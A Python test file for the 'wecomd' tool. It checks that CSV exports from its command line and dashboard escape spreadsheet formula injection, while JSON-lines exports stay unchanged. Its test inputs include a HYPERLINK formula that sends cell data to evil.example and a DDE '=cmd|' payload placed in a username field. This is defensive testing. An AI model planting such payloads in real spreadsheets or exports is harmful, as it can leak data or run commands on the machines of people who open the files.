"""Exports as a user takes them: `wecomd export` in a real subprocess and the dashboard's download
from a real server, over a real SQLite file filled through real callbacks."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import urllib.error
import urllib.request

import pytest

from conftest import API_TOKEN, ROOT
from peer import CORP_ID, WecomPeer
from wecomd import simulate

# What a spreadsheet would run as a formula, and what it shows as text after the OWASP escape.
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "-2+3", "+1", "@SUM(A1:A9)", "\tx", "\rx"]
HARMLESS = ["plain", "2-3", "a=b", "'quoted", "中文 =1"]


def wecomd(*args: str, **kw) -> subprocess.CompletedProcess:
    """The command's output as bytes decoded without newline translation (a CR must stay a CR)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    result = subprocess.run([sys.executable, "-m", "wecomd", *args], capture_output=True, env=env,
                            timeout=120, **kw)
    result.stdout, result.stderr = result.stdout.decode("utf-8"), result.stderr.decode("utf-8")
    return result


def send(server, app: str, agent_id: str, content: str, from_user: str = "zhangsan") -> None:
    """A text callback to `app`; a leading CR is sent as &#13;, since XML turns a raw one into LF."""
    xml = simulate.build("text", corp_id=CORP_ID, agent_id=agent_id, content="MARKER", from_user=from_user)
    xml = xml.replace("<![CDATA[MARKER]]>", content.replace("\r", "&#13;") if content.startswith("\r")
                      else "<![CDATA[%s]]>" % content)
    req = WecomPeer().callback(xml, agent_id=agent_id)
    request = urllib.request.Request("%s/callback/%s?%s" % (server.url, app, req.query), data=req.body)
    with urllib.request.urlopen(request, timeout=10) as resp:
        assert resp.status == 200


def api(server, path: str) -> tuple[int, bytes]:
    request = urllib.request.Request(server.url + path, headers={"Authorization": "Bearer " + API_TOKEN})
    try:
        with urllib.request.urlopen(request, timeout=30) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


@pytest.fixture
def stored(server):
    """The quiet app (no automatic reply) holding every formula and harmless text, in that order."""
    for text in FORMULAS + HARMLESS:
        send(server, "quiet", "1000003", text)
    send(server, "quiet", "1000003", "from a formula user", from_user="=cmd|'/c calc'!A1")
    return server


def check_csv(text: str) -> None:
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    contents = [row["content"] for row in table]
    assert contents[:len(FORMULAS)] == ["'" + text for text in FORMULAS]
    assert contents[len(FORMULAS):-1] == HARMLESS
    assert table[-1]["from_user"] == "'=cmd|'/c calc'!A1"
    for row in table:  # no cell of any column starts like a formula
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row


def test_cli_csv_export_escapes_formulas(stored):
    result = wecomd("export", "-c", str(stored.config), "--format", "csv", "--app", "quiet")
    assert result.returncode == 0, result.stderr
    check_csv(result.stdout)
    # JSON lines are data, not a spreadsheet: kept exactly as received.
    jsonl = wecomd("export", "-c", str(stored.config), "--app", "quiet")
    assert [json.loads(line)["content"] for line in jsonl.stdout.splitlines()][:len(FORMULAS)] == FORMULAS


def test_dashboard_csv_download_escapes_formulas(stored):
    status, body = api(stored, "/api/export?format=csv&app=quiet")
    assert status == 200
    check_csv(body.decode("utf-8"))
    status, body = api(stored, "/api/export?format=jsonl&app=quiet")
    assert [json.loads(line)["content"] for line in body.decode().splitlines()][:len(FORMULAS)] == FORMULAS
